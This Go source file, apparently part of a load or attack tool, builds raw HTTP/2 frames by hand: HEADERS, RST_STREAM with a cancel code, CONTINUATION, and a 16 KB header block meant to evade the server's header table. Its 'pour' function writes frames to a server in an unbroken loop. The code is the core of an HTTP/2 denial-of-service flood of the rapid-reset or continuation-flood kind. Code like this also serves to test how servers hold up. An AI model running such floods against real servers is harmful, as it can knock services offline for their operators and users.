package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
)

// Frames of HTTP/2, byte by byte, because a client of net/http sends no hostile ones.
const (
	frameHeaders      = 0x1
	frameReset        = 0x3
	frameSettings     = 0x4
	frameContinuation = 0x9

	endStream  = 0x1
	endHeaders = 0x4
	cancelled  = 8 // the code of a reset
)

var (
	request = []byte{0x82, 0x86, 0x84, 0x41, 1, 'a'} // GET / with the authority a
	// fields are 16 KB of a header, which the table of the server does not remember.
	fields = bytes.Repeat(append([]byte{0x00, 1, 'x', 110}, bytes.Repeat([]byte{'x'}, 110)...), 140)
)

// A frames is a part of a connection.
type frames struct{ bytes.Buffer }

func (f *frames) add(kind, flags byte, stream uint32, payload []byte) {
	var head [9]byte
	binary.BigEndian.PutUint32(head[:4], uint32(len(payload))<<8|uint32(kind))
	head[4] = flags
	binary.BigEndian.PutUint32(head[5:], stream)
	f.Write(head[:])
	f.Write(payload)
}

// pour begins a connection and sends what next returns, until ctx ends or the server closes the connection.
func pour(ctx context.Context, address string, next func() []byte) {
	c := dial(ctx, address)
	if c == nil {
		return
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.Close() })()
	go func() { _, _ = io.Copy(io.Discard, c) }() // until c is closed
	var f frames
	f.WriteString("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	f.add(frameSettings, 0, 0, nil)
	if _, err := c.Write(f.Bytes()); err != nil {
		return
	}
	for ctx.Err() == nil {
		if _, err := c.Write(next()); err != nil {
			return
		}
	}
}
